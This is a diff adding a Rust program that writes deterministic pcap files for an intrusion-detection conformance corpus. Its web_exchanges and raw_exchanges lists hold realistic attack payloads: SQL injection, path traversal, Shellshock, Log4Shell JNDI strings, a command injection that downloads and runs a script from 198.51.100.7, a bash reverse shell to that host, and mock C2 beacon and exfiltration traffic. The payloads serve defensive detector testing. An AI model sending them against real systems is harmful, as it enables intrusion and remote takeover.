@@ -1,0 +1,848 @@
+//! Writes eastwall's IDS conformance corpus: deterministic pcaps of TCP conversations with
+//! proper handshakes, sequence and acknowledgement numbers, and FINs.
+//!
+//! ```text
+//! cargo run -p eastwall-integration --bin ids-corpus -- ids/testdata/conformance [ET_OPEN_DIR]
+//! ```
+//!
+//! Hand-written cases: realistic attacks over HTTP/1.1 (SQL injection, path traversal, shell
+//! commands, scanners' user agents, exploit URIs), responses that give an attack away, the
+//! same conversations cut into 1-7 byte segments, keep-alive connections, raw TCP payloads for
+//! `local.rules`, TLS ClientHellos and DNS-over-TCP queries. With the ET Open directory, also
+//! one conversation per sampled ET rule, built from the rule's own contents (`et_*.pcap`), so
+//! that agreement is measured on rules that fire. Every flow has its own client port.
+//!
+//! `ids-corpus bench BENCH.pcap EMPTY.pcap [REPEAT]` writes the scan benchmark's traffic
+//! (`ids/benches/traffic/mod.rs`, REPEAT times) for Suricata, and a pcap with one empty
+//! connection to measure Suricata's start-up; it prints the payload bytes written.
+
+use eastwall_ids::{
+    Rule, parse_rules,
+    rule::{Buffer, MatchItem},
+};
+use etherparse::PacketBuilder;
+use pcap_file::pcap::{PcapPacket, PcapWriter};
+use std::net::Ipv4Addr;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+#[path = "../../benches/traffic/mod.rs"]
+#[allow(dead_code)]
+mod traffic;
+
+const CLIENT_MAC: [u8; 6] = [0x02, 0, 0, 0, 0, 1];
+const SERVER_MAC: [u8; 6] = [0x02, 0, 0, 0, 0, 2];
+const CLIENT_IP: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 10);
+const SERVER_IP: Ipv4Addr = Ipv4Addr::new(10, 2, 0, 20);
+
+/// Packets of one pcap file.
+struct Pcap {
+    packets: Vec<(Duration, Vec<u8>)>,
+    clock: Duration,
+}
+
+/// Client ports are unique across the whole corpus, so flows can be told apart.
+struct Ports(u16);
+
+impl Ports {
+    fn next(&mut self) -> u16 {
+        self.0 += 1;
+        self.0
+    }
+}
+
+/// One TCP connection being written.
+struct Conv<'a> {
+    pcap: &'a mut Pcap,
+    cport: u16,
+    sport: u16,
+    /// Next sequence number of the client and of the server.
+    seq: [u32; 2],
+}
+
+impl Pcap {
+    fn new() -> Self {
+        Pcap {
+            packets: Vec::new(),
+            clock: Duration::from_secs(1_700_000_000),
+        }
+    }
+
+    fn write(&self, path: &Path) -> std::io::Result<()> {
+        let file = std::fs::File::create(path)?;
+        let mut w = PcapWriter::new(file).map_err(std::io::Error::other)?;
+        for (ts, data) in &self.packets {
+            w.write_packet(&PcapPacket::new(*ts, data.len() as u32, data))
+                .map_err(std::io::Error::other)?;
+        }
+        Ok(())
+    }
+
+    #[allow(clippy::too_many_arguments)]
+    fn packet(
+        &mut self,
+        from_client: bool,
+        cport: u16,
+        sport: u16,
+        seq: u32,
+        ack: Option<u32>,
+        flags: &str,
+        payload: &[u8],
+    ) {
+        let (smac, dmac, sip, dip, sp, dp) = if from_client {
+            (CLIENT_MAC, SERVER_MAC, CLIENT_IP, SERVER_IP, cport, sport)
+        } else {
+            (SERVER_MAC, CLIENT_MAC, SERVER_IP, CLIENT_IP, sport, cport)
+        };
+        let mut b = PacketBuilder::ethernet2(smac, dmac)
+            .ipv4(sip.octets(), dip.octets(), 64)
+            .tcp(sp, dp, seq, 64240);
+        if let Some(a) = ack {
+            b = b.ack(a);
+        }
+        if flags.contains('S') {
+            b = b.syn();
+        }
+        if flags.contains('F') {
+            b = b.fin();
+        }
+        if flags.contains('P') {
+            b = b.psh();
+        }
+        let mut out = Vec::with_capacity(b.size(payload.len()));
+        b.write(&mut out, payload).expect("packet builds");
+        self.clock += Duration::from_micros(250);
+        self.packets.push((self.clock, out));
+    }
+
+    fn conv(&mut self, ports: &mut Ports, sport: u16) -> Conv<'_> {
+        let cport = ports.next();
+        let isn = [
+            u32::from(cport).wrapping_mul(2_654_435_761),
+            0x4000_0000 ^ u32::from(cport),
+        ];
+        self.packet(true, cport, sport, isn[0], None, "S", &[]);
+        self.packet(false, cport, sport, isn[1], Some(isn[0] + 1), "S", &[]);
+        self.packet(true, cport, sport, isn[0] + 1, Some(isn[1] + 1), "", &[]);
+        Conv {
+            pcap: self,
+            cport,
+            sport,
+            seq: [isn[0] + 1, isn[1] + 1],
+        }
+    }
+}
+
+impl Conv<'_> {
+    /// Send `data` from one side in segments of the given sizes (cycled), each acknowledged.
+    fn send(&mut self, from_client: bool, data: &[u8], sizes: &[usize]) {
+        let (me, peer) = if from_client { (0, 1) } else { (1, 0) };
+        let mut off = 0;
+        let mut k = 0;
+        while off < data.len() {
+            let n = sizes[k % sizes.len()].max(1).min(data.len() - off);
+            k += 1;
+            let seg = &data[off..off + n];
+            self.pcap.packet(
+                from_client,
+                self.cport,
+                self.sport,
+                self.seq[me],
+                Some(self.seq[peer]),
+                "P",
+                seg,
+            );
+            self.seq[me] = self.seq[me].wrapping_add(n as u32);
+            off += n;
+            self.pcap.packet(
+                !from_client,
+                self.cport,
+                self.sport,
+                self.seq[peer],
+                Some(self.seq[me]),
+                "",
+                &[],
+            );
+        }
+    }
+
+    fn close(self) {
+        let (c, s) = (self.seq[0], self.seq[1]);
+        self.pcap
+            .packet(true, self.cport, self.sport, c, Some(s), "F", &[]);
+        self.pcap
+            .packet(false, self.cport, self.sport, s, Some(c + 1), "F", &[]);
+        self.pcap
+            .packet(true, self.cport, self.sport, c + 1, Some(s + 1), "", &[]);
+    }
+}
+
+/// Segment sizes: whole messages (up to an MSS) or tiny pieces.
+const WHOLE: &[usize] = &[1448];
+const TINY: &[usize] = &[1, 3, 7, 2, 5, 1, 4, 6];
+
+fn request(method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
+    let mut out = format!("{method} {target} HTTP/1.1\r\n").into_bytes();
+    let has_host = headers.iter().any(|(n, _)| n.eq_ignore_ascii_case("host"));
+    if !has_host {
+        out.extend_from_slice(b"Host: shop.internal.example\r\n");
+    }
+    for (n, v) in headers {
+        out.extend_from_slice(format!("{n}: {v}\r\n").as_bytes());
+    }
+    if !body.is_empty() {
+        out.extend_from_slice(format!("Content-Length: {}\r\n", body.len()).as_bytes());
+    }
+    out.extend_from_slice(b"\r\n");
+    out.extend_from_slice(body);
+    out
+}
+
+fn response(status: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
+    let mut out = format!("HTTP/1.1 {status}\r\n").into_bytes();
+    out.extend_from_slice(b"Date: Tue, 14 Nov 2023 22:13:20 GMT\r\n");
+    for (n, v) in headers {
+        out.extend_from_slice(format!("{n}: {v}\r\n").as_bytes());
+    }
+    out.extend_from_slice(format!("Content-Length: {}\r\n\r\n", body.len()).as_bytes());
+    out.extend_from_slice(body);
+    out
+}
+
+const UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36";
+
+/// Realistic attack (and benign) exchanges: (request, response).
+fn web_exchanges() -> Vec<(Vec<u8>, Vec<u8>)> {
+    let ok = |body: &str| {
+        response(
+            "200 OK",
+            &[("Content-Type", "text/html"), ("Server", "Apache/2.4.57")],
+            body.as_bytes(),
+        )
+    };
+    let not_found = response(
+        "404 Not Found",
+        &[("Content-Type", "text/html")],
+        b"<h1>Not Found</h1>",
+    );
+    let ua = [("User-Agent", UA), ("Accept", "*/*")];
+    vec![
+        // SQL injection.
+        (request("GET", "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", &ua, b""), ok("<table></table>")),
+        (request("GET", "/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL,CONCAT(0x7170767071,user(),0x71766b7071)--+", &ua, b""), ok("qpvpq root@localhost qvkq")),
+        (request("GET", "/news.php?id=1'+AND+SLEEP(5)--+", &ua, b""), ok("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version")),
+        (request("POST", "/login.php", &[("User-Agent", UA), ("Content-Type", "application/x-www-form-urlencoded")], b"user=admin'--&pass=x' OR '1'='1"), ok("Welcome admin")),
+        (request("GET", "/search?q=1;DROP%20TABLE%20users", &ua, b""), not_found.clone()),
+        (request("GET", "/index.php?id=1%20AND%201=1%20UNION%20SELECT%20@@version", &ua, b""), ok("5.7.44")),
+        // Path traversal.
+        (request("GET", "/../../../../etc/passwd", &ua, b""), ok("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n")),
+        (request("GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", &ua, b""), not_found.clone()),
+        (request("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", &ua, b""), ok("root:x:0:0:root:/root:/bin/bash\n")),
+        (request("GET", "/download.php?file=../../../../../../windows/win.ini", &ua, b""), ok("; for 16-bit app support\n[fonts]\n")),
+        (request("GET", "/index.php?page=php://filter/convert.base64-encode/resource=index.php", &ua, b""), ok("PD9waHA=")),
+        (request("GET", "/view?file=....//....//....//etc/shadow", &ua, b""), not_found.clone()),
+        // Shell commands.
+        (request("GET", "/cgi-bin/status", &[("User-Agent", "() { :; }; /bin/bash -c \"cat /etc/passwd\""), ("Accept", "*/*")], b""), ok("ok")),
+        (request("POST", "/cgi-bin/ping.cgi", &[("User-Agent", "curl/7.88.1"), ("Content-Type", "application/x-www-form-urlencoded")], b"ip=127.0.0.1;wget http://198.51.100.7/x.sh -O /tmp/x.sh;chmod +x /tmp/x.sh;sh /tmp/x.sh"), ok("PING")),
+        (request("GET", "/diag.php?cmd=;id", &ua, b""), ok("uid=0(root) gid=0(root) groups=0(root)")),
+        (request("GET", "/shell.php?c=whoami", &ua, b""), ok("www-data")),
+        (request("POST", "/api/run", &[("User-Agent", "python-requests/2.31.0"), ("Content-Type", "application/json")], b"{\"cmd\":\"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\"}"), ok("{}")),
+        (request("GET", "/", &[("User-Agent", UA), ("X-Api-Version", "${jndi:ldap://198.51.100.7:1389/Exploit}")], b""), ok("<html></html>")),
+        (request("GET", "/?x=${jndi:rmi://198.51.100.7/a}", &[("User-Agent", "${jndi:ldap://198.51.100.7/ua}")], b""), ok("<html></html>")),
+        // Known exploit URIs.
+        (request("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", &ua, b"<?php echo md5('phpunit'); ?>"), ok("")),
+        (request("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP", &ua, b""), ok("")),
+        (request("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+-O-+http://198.51.100.7/t.sh|sh`)", &ua, b""), ok("")),
+        (request("POST", "/boaform/admin/formLogin", &[("User-Agent", "Mozilla/5.0"), ("Content-Type", "application/x-www-form-urlencoded")], b"username=admin&psd=Feefifofum"), ok("")),
+        (request("GET", "/HNAP1/", &[("User-Agent", UA), ("SOAPAction", "\"http://purenetworks.com/HNAP1/GetDeviceSettings\"")], b""), ok("")),
+        (request("GET", "/.git/config", &ua, b""), ok("[core]\n\trepositoryformatversion = 0\n")),
+        (request("GET", "/.env", &ua, b""), ok("DB_PASSWORD=secret\nAPP_KEY=base64:xyz\n")),
+        (request("GET", "/actuator/env", &ua, b""), ok("{\"activeProfiles\":[]}")),
+        (request("GET", "/solr/admin/cores?action=CREATE&name=x&instanceDir=x", &ua, b""), ok("")),
+        (request("POST", "/struts2-showcase/index.action", &[("User-Agent", UA), ("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}")], b""), ok("")),
+        (request("POST", "/", &[("User-Agent", UA), ("Content-Type", "application/x-www-form-urlencoded")], b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"), ok("")),
+        (request("GET", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", &ua, b""), ok("")),
+        (request("GET", "/phpmyadmin/index.php", &ua, b""), ok("phpMyAdmin")),
+        (request("GET", "/manager/html", &[("User-Agent", UA), ("Authorization", "Basic dG9tY2F0OnRvbWNhdA==")], b""), ok("Tomcat Web Application Manager")),
+        (request("GET", "/owa/auth/x.js", &[("User-Agent", UA), ("Cookie", "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3")], b""), ok("")),
+        // Scanners.
+        (request("GET", "/", &[("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")], b""), ok("")),
+        (request("GET", "/index.php?id=1", &[("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], b""), ok("")),
+        (request("GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", &[("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")], b""), not_found.clone()),
+        (request("GET", "/", &[("User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)")], b""), ok("")),
+        (request("GET", "/w00tw00t.at.blackhats.romanian.anti-sec:)", &[("User-Agent", "ZmEu")], b""), not_found.clone()),
+        (request("GET", "/", &[("User-Agent", "Mozilla/5.0 zgrab/0.x")], b""), ok("")),
+        (request("GET", "/admin/", &[("User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")], b""), not_found.clone()),
+        (request("GET", "/", &[("User-Agent", "Go-http-client/1.1")], b""), ok("")),
+        // Responses that give an attack away.
+        (request("GET", "/uploads/", &ua, b""), ok("<html><head><title>Index of /uploads</title></head><body><h1>Index of /uploads</h1>")),
+        (request("GET", "/tmp/c99.php", &ua, b""), ok("<title>c99shell</title> Safe-mode: OFF (not secure) uname -a: Linux")),
+        (request("GET", "/status", &ua, b""), ok("Microsoft OLE DB Provider for ODBC Drivers error '80040e14'")),
+        // Benign.
+        (request("GET", "/index.html", &ua, b""), ok("<html><body>Welcome</body></html>")),
+        (request("GET", "/api/v1/orders?limit=10&offset=20", &[("User-Agent", UA), ("Accept", "application/json")], b""), response("200 OK", &[("Content-Type", "application/json")], b"{\"orders\":[]}")),
+        (request("POST", "/api/v1/orders", &[("User-Agent", UA), ("Content-Type", "application/json")], b"{\"item\":42,\"qty\":1}"), response("201 Created", &[("Content-Type", "application/json"), ("Location", "/api/v1/orders/7")], b"{\"id\":7}")),
+    ]
+}
+
+/// Hand-written rules' traffic (see `local.rules`): raw TCP both ways.
+/// A raw TCP conversation: server port, then (from the client?, bytes) messages.
+type RawConversation = (u16, Vec<(bool, Vec<u8>)>);
+
+fn raw_exchanges() -> Vec<RawConversation> {
+    vec![
+        (
+            9000,
+            vec![
+                (true, b"USER admin\r\n".to_vec()),
+                (false, b"331 need password\r\n".to_vec()),
+                (true, b"PASS hunter2\r\n".to_vec()),
+                (false, b"230 ok\r\n".to_vec()),
+            ],
+        ),
+        (
+            9000,
+            vec![
+                (true, b"USER guest\r\n".to_vec()),
+                (false, b"331 need password\r\n".to_vec()),
+                (true, b"PASS secret\r\n".to_vec()),
+                (false, b"530 denied\r\n".to_vec()),
+            ],
+        ),
+        (
+            9001,
+            vec![
+                (true, b"\x00\x00\x00\x10CMD exec /bin/sh -c id\x00".to_vec()),
+                (false, b"uid=0(root) gid=0(root)\n".to_vec()),
+            ],
+        ),
+        (
+            9001,
+            vec![
+                (true, b"\x00\x00\x00\x04PING".to_vec()),
+                (false, b"\x00\x00\x00\x04PONG".to_vec()),
+            ],
+        ),
+        (
+            9002,
+            vec![
+                (true, b"LOGIN alice\n".to_vec()),
+                (false, b"OK welcome\n".to_vec()),
+                (true, b"GETFILE /etc/shadow\n".to_vec()),
+                (false, b"DATA root:$6$abc".to_vec()),
+            ],
+        ),
+        (
+            9002,
+            vec![
+                (true, b"GETFILE /etc/shadow\n".to_vec()),
+                (false, b"ERR login first\n".to_vec()),
+            ],
+        ),
+        (
+            9003,
+            vec![
+                (true, b"BEACON id=8f3a2c91 v=2\n".to_vec()),
+                (false, b"TASK sleep 60\n".to_vec()),
+            ],
+        ),
+        (
+            9003,
+            vec![(
+                true,
+                [b"EXFIL ".to_vec(), vec![b'A'; 3000], b" END".to_vec()].concat(),
+            )],
+        ),
+        (
+            9004,
+            vec![
+                (true, b"HELLO\x05\x01\x02\x03\x04\x05rest".to_vec()),
+                (false, b"BYE".to_vec()),
+            ],
+        ),
+        (
+            9004,
+            vec![
+                (true, b"HELLO\x09\x01\x02".to_vec()),
+                (false, b"BYE".to_vec()),
+            ],
+        ),
+        (
+            80,
+            vec![
+                (
+                    true,
+                    b"GET /x HTTP/1.0\r\nX-Ratproxy-Loop: 1\r\n\r\n".to_vec(),
+                ),
+                (false, b"HTTP/1.0 200 OK\r\n\r\nok".to_vec()),
+            ],
+        ),
+    ]
+}
+
+/// A ClientHello record carrying `sni`.
+fn client_hello(sni: &str, seed: u8) -> Vec<u8> {
+    let mut ext = Vec::new();
+    let name = sni.as_bytes();
+    let mut sn = Vec::new();
+    sn.extend_from_slice(&((name.len() + 3) as u16).to_be_bytes());
+    sn.push(0);
+    sn.extend_from_slice(&(name.len() as u16).to_be_bytes());
+    sn.extend_from_slice(name);
+    ext.extend_from_slice(&[0, 0]);
+    ext.extend_from_slice(&(sn.len() as u16).to_be_bytes());
+    ext.extend_from_slice(&sn);
+    // supported_groups, ec_point_formats, signature_algorithms, supported_versions.
+    ext.extend_from_slice(&[0x00, 0x0a, 0x00, 0x06, 0x00, 0x04, 0x00, 0x1d, 0x00, 0x17]);
+    ext.extend_from_slice(&[0x00, 0x0b, 0x00, 0x02, 0x01, 0x00]);
+    ext.extend_from_slice(&[
+        0x00, 0x0d, 0x00, 0x08, 0x00, 0x06, 0x04, 0x03, 0x08, 0x04, 0x04, 0x01,
+    ]);
+    ext.extend_from_slice(&[0x00, 0x2b, 0x00, 0x05, 0x04, 0x03, 0x04, 0x03, 0x03]);
+    let mut hello = vec![0x03, 0x03];
+    hello.extend((0..32u8).map(|i| i.wrapping_mul(31).wrapping_add(seed)));
+    hello.push(32);
+    hello.extend((0..32u8).map(|i| i.wrapping_mul(17) ^ seed));
+    hello.extend_from_slice(&[0x00, 0x06, 0x13, 0x01, 0x13, 0x02, 0xc0, 0x2f]);
+    hello.extend_from_slice(&[0x01, 0x00]);
+    hello.extend_from_slice(&(ext.len() as u16).to_be_bytes());
+    hello.extend_from_slice(&ext);
+    let mut hs = vec![0x01];
+    hs.extend_from_slice(&(hello.len() as u32).to_be_bytes()[1..]);
+    hs.extend_from_slice(&hello);
+    let mut rec = vec![0x16, 0x03, 0x01];
+    rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
+    rec.extend_from_slice(&hs);
+    rec
+}
+
+/// A DNS query for `name`, framed for TCP.
+fn dns_query(name: &str, id: u16) -> Vec<u8> {
+    let mut m = id.to_be_bytes().to_vec();
+    m.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
+    for label in name.split('.').filter(|l| !l.is_empty()) {
+        m.push(label.len().min(63) as u8);
+        m.extend_from_slice(&label.as_bytes()[..label.len().min(63)]);
+    }
+    m.extend_from_slice(&[0, 0, 1, 0, 1]);
+    let mut framed = (m.len() as u16).to_be_bytes().to_vec();
+    framed.extend_from_slice(&m);
+    framed
+}
+
+fn dns_response(query: &[u8]) -> Vec<u8> {
+    let mut m = query[2..].to_vec();
+    m[2] = 0x81;
+    m[3] = 0x83; // NXDOMAIN
+    let mut framed = (m.len() as u16).to_be_bytes().to_vec();
+    framed.extend_from_slice(&m);
+    framed
+}
+
+/// Non-negated contents of one buffer of a rule.
+fn contents(rule: &Rule, buffer: Buffer) -> Vec<Vec<u8>> {
+    rule.buffers
+        .iter()
+        .filter(|b| b.buffer == buffer && b.transforms.is_empty())
+        .flat_map(|b| b.items.iter())
+        .filter_map(|i| match i {
+            MatchItem::Content(c) if !c.negated => Some(c.pattern.clone()),
+            _ => None,
+        })
+        .collect()
+}
+
+fn printable(b: &[u8]) -> bool {
+    b.iter().all(|&c| (0x20..0x7f).contains(&c))
+}
+
+/// Percent-encode what cannot stand in a request target.
+fn target_safe(b: &[u8]) -> String {
+    let mut s = String::new();
+    for &c in b {
+        if c > 0x20 && c < 0x7f && c != b'#' {
+            s.push(c as char);
+        } else {
+            s.push_str(&format!("%{c:02X}"));
+        }
+    }
+    s
+}
+
+/// A request and response built from an HTTP rule's contents, or `None` when its contents
+/// cannot be placed in an HTTP/1.1 message.
+fn synthesize(rule: &Rule) -> Option<(Vec<u8>, Vec<u8>)> {
+    let joined = |b: Buffer| contents(rule, b).concat();
+    let method_c = contents(rule, Buffer::HttpMethod);
+    let method = match method_c.first() {
+        Some(m) if m.iter().all(u8::is_ascii_uppercase) && !m.is_empty() => {
+            String::from_utf8_lossy(m).into_owned()
+        }
+        Some(_) => return None,
+        None => "GET".to_string(),
+    };
+    let mut target = Vec::new();
+    for c in contents(rule, Buffer::HttpUri)
+        .into_iter()
+        .chain(contents(rule, Buffer::HttpUriRaw))
+        .chain(contents(rule, Buffer::HttpStart))
+    {
+        if target.is_empty() && !c.starts_with(b"/") {
+            target.push(b'/');
+        }
+        target.extend_from_slice(&c);
+    }
+    if target.is_empty() {
+        target.extend_from_slice(b"/index.html");
+    }
+    let mut headers: Vec<(String, String)> = Vec::new();
+    fn push(headers: &mut Vec<(String, String)>, name: &str, v: Vec<u8>) -> Option<()> {
+        if v.is_empty() {
+            return Some(());
+        }
+        if !printable(&v) {
+            return None;
+        }
+        headers.push((name.to_string(), String::from_utf8_lossy(&v).into_owned()));
+        Some(())
+    }
+    let host = joined(Buffer::HttpHost);
+    push(
+        &mut headers,
+        "Host",
+        if host.is_empty() {
+            b"www.example.com".to_vec()
+        } else {
+            host
+        },
+    )?;
+    let ua = joined(Buffer::HttpUserAgent);
+    push(
+        &mut headers,
+        "User-Agent",
+        if ua.is_empty() {
+            UA.as_bytes().to_vec()
+        } else {
+            ua
+        },
+    )?;
+    push(&mut headers, "Cookie", joined(Buffer::HttpCookie))?;
+    push(&mut headers, "Referer", joined(Buffer::HttpReferer))?;
+    push(&mut headers, "Accept", joined(Buffer::HttpAccept))?;
+    push(
+        &mut headers,
+        "Accept-Encoding",
+        joined(Buffer::HttpAcceptEnc),
+    )?;
+    push(
+        &mut headers,
+        "Accept-Language",
+        joined(Buffer::HttpAcceptLang),
+    )?;
+    let to_client = rule.flow.dir == Some(eastwall_ids::Dir::ToClient);
+    let mut resp_headers: Vec<(String, String)> = vec![("Server".into(), "nginx".into())];
+    // Header contents: whole `Name: value` lines stay lines, the rest goes in one header.
+    let mut loose = Vec::new();
+    for c in contents(rule, Buffer::HttpHeader) {
+        let text = String::from_utf8_lossy(&c).into_owned();
+        let mut placed = false;
+        for line in text.split("\r\n").filter(|l| !l.is_empty()) {
+            if !printable(line.as_bytes()) {
+                return None;
+            }
+            if let Some((n, v)) = line.split_once(": ")
+                && !n.is_empty()
+                && n.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
+            {
+                let h = (n.to_string(), v.to_string());
+                if to_client {
+                    resp_headers.push(h)
+                } else {
+                    headers.push(h)
+                }
+                placed = true;
+                continue;
+            }
+            loose.push(line.to_string());
+            placed = true;
+        }
+        if !placed && !c.is_empty() {
+            return None;
+        }
+    }
+    if !loose.is_empty() {
+        let h = ("X-Data".to_string(), loose.concat());
+        if to_client {
+            resp_headers.push(h)
+        } else {
+            headers.push(h)
+        }
+    }
+    let ct = joined(Buffer::HttpContentType);
+    let mut body = joined(Buffer::HttpRequestBody);
+    let file_data = joined(Buffer::FileData);
+    let resp_body = [
+        joined(Buffer::HttpResponseBody),
+        if to_client {
+            file_data.clone()
+        } else {
+            Vec::new()
+        },
+    ]
+    .concat();
+    if !to_client {
+        body.extend_from_slice(&file_data);
+        if !ct.is_empty() {
+            push(&mut headers, "Content-Type", ct.clone())?;
+        }
+    } else if !ct.is_empty() {
+        if !printable(&ct) {
+            return None;
+        }
+        resp_headers.push((
+            "Content-Type".into(),
+            String::from_utf8_lossy(&ct).into_owned(),
+        ));
+    }
+    let server = joined(Buffer::HttpServer);
+    if !server.is_empty() {
+        if !printable(&server) {
+            return None;
+        }
+        resp_headers[0].1 = String::from_utf8_lossy(&server).into_owned();
+    }
+    let location = joined(Buffer::HttpLocation);
+    if !location.is_empty() {
+        if !printable(&location) {
+            return None;
+        }
+        resp_headers.push((
+            "Location".into(),
+            String::from_utf8_lossy(&location).into_owned(),
+        ));
+    }
+    let status = contents(rule, Buffer::HttpStatCode)
+        .first()
+        .cloned()
+        .unwrap_or_else(|| b"200".to_vec());
+    if status.len() != 3 || !status.iter().all(u8::is_ascii_digit) {
+        return None;
+    }
+    let hdrs: Vec<(&str, &str)> = headers
+        .iter()
+        .map(|(n, v)| (n.as_str(), v.as_str()))
+        .collect();
+    let req = request(&method, &target_safe(&target), &hdrs, &body);
+    let rh: Vec<(&str, &str)> = resp_headers
+        .iter()
+        .map(|(n, v)| (n.as_str(), v.as_str()))
+        .collect();
+    let reason = if status == b"200" { "OK" } else { "Status" };
+    let resp = response(
+        &format!("{} {reason}", String::from_utf8_lossy(&status)),
+        &rh,
+        &resp_body,
+    );
+    Some((req, resp))
+}
+
+fn et_rules(dir: &Path, file: &str) -> Vec<Rule> {
+    let Ok(text) = std::fs::read_to_string(dir.join(file)) else {
+        return Vec::new();
+    };
+    let mut rules = parse_rules(file, &text).rules;
+    rules.sort_by_key(|r| r.sid);
+    rules
+}
+
+/// The benchmark traffic as a pcap (repeated `repeat` times on new connections, so that
+/// Suricata's scanning time stands well above its start-up time), and an empty connection.
+fn bench(out: &Path, empty: &Path, repeat: usize) -> std::io::Result<()> {
+    let mut ports = Ports(1024);
+    let exchanges = traffic::exchanges(traffic::BENCH_EXCHANGES);
+    let file = std::fs::File::create(out)?;
+    let mut w = PcapWriter::new(std::io::BufWriter::new(file)).map_err(std::io::Error::other)?;
+    let mut clock = Duration::from_secs(1_700_000_000);
+    let mut bytes = 0;
+    for _ in 0..repeat {
+        let mut p = Pcap::new();
+        p.clock = clock;
+        for conn in exchanges.chunks(traffic::PER_CONNECTION) {
+            if ports.0 >= 65000 {
+                ports.0 = 1024;
+            }
+            let mut c = p.conv(&mut ports, 80);
+            for e in conn {
+                c.send(true, &e.request, WHOLE);
+                c.send(false, &e.response, WHOLE);
+                bytes += e.request.len() + e.response.len();
+            }
+            c.close();
+        }
+        for (ts, data) in &p.packets {
+            w.write_packet(&PcapPacket::new(*ts, data.len() as u32, data))
+                .map_err(std::io::Error::other)?;
+        }
+        clock = p.clock;
+    }
+    let mut p = Pcap::new();
+    p.conv(&mut ports, 80).close();
+    p.write(empty)?;
+    println!("{bytes}");
+    Ok(())
+}
+
+fn main() -> std::io::Result<()> {
+    let args: Vec<String> = std::env::args().skip(1).collect();
+    if args.first().is_some_and(|a| a == "bench") {
+        let (Some(out), Some(empty)) = (args.get(1), args.get(2)) else {
+            return Err(std::io::Error::other(
+                "usage: ids-corpus bench BENCH.pcap EMPTY.pcap [REPEAT]",
+            ));
+        };
+        let repeat = args.get(3).and_then(|r| r.parse().ok()).unwrap_or(1);
+        return bench(Path::new(out), Path::new(empty), repeat);
+    }
+    let out = PathBuf::from(
+        args.first()
+            .map_or("ids/testdata/conformance", String::as_str),
+    );
+    let et = args.get(1).map(PathBuf::from);
+    std::fs::create_dir_all(&out)?;
+    let mut ports = Ports(20000);
+
+    let mut p = Pcap::new();
+    for (req, resp) in web_exchanges() {
+        let mut c = p.conv(&mut ports, 80);
+        c.send(true, &req, WHOLE);
+        c.send(false, &resp, WHOLE);
+        c.close();
+    }
+    p.write(&out.join("http_attacks.pcap"))?;
+
+    let mut p = Pcap::new();
+    for (req, resp) in web_exchanges() {
+        let mut c = p.conv(&mut ports, 8080);
+        c.send(true, &req, TINY);
+        c.send(false, &resp, TINY);
+        c.close();
+    }
+    p.write(&out.join("http_split.pcap"))?;
+
+    let mut p = Pcap::new();
+    let ex = web_exchanges();
+    for group in ex.chunks(6) {
+        let mut c = p.conv(&mut ports, 80);
+        for (req, resp) in group {
+            c.send(true, req, &[700, 1448]);
+            c.send(false, resp, &[1448]);
+        }
+        c.close();
+    }
+    p.write(&out.join("http_keepalive.pcap"))?;
+
+    let mut p = Pcap::new();
+    for (port, msgs) in raw_exchanges() {
+        for sizes in [WHOLE, TINY] {
+            let mut c = p.conv(&mut ports, port);
+            for (from_client, data) in &msgs {
+                c.send(*from_client, data, sizes);
+            }
+            c.close();
+        }
+    }
+    p.write(&out.join("raw_tcp.pcap"))?;
+
+    // TLS and DNS: names from ET rules when available, plus benign ones.
+    let mut snis = vec![
+        "www.example.com".to_string(),
+        "api.internal.example".to_string(),
+    ];
+    let mut qnames = vec![
+        "www.example.com".to_string(),
+        "db.internal.example".to_string(),
+    ];
+    if let Some(et) = &et {
+        for file in [
+            "emerging-malware.rules",
+            "emerging-phishing.rules",
+            "emerging-info.rules",
+            "emerging-coinminer.rules",
+            "emerging-policy.rules",
+        ] {
+            for r in et_rules(et, file).iter().step_by(7) {
+                for c in contents(r, Buffer::TlsSni) {
+                    if printable(&c) && snis.len() < 60 {
+                        snis.push(
+                            String::from_utf8_lossy(&c)
+                                .trim_start_matches('.')
+                                .to_string(),
+                        );
+                    }
+                }
+                for c in contents(r, Buffer::DnsQuery) {
+                    if printable(&c) && qnames.len() < 60 {
+                        qnames.push(
+                            String::from_utf8_lossy(&c)
+                                .trim_start_matches('.')
+                                .to_string(),
+                        );
+                    }
+                }
+            }
+        }
+    }
+    let mut p = Pcap::new();
+    for (i, sni) in snis.iter().enumerate() {
+        let mut c = p.conv(&mut ports, 443);
+        c.send(true, &client_hello(sni, i as u8), WHOLE);
+        c.close();
+    }
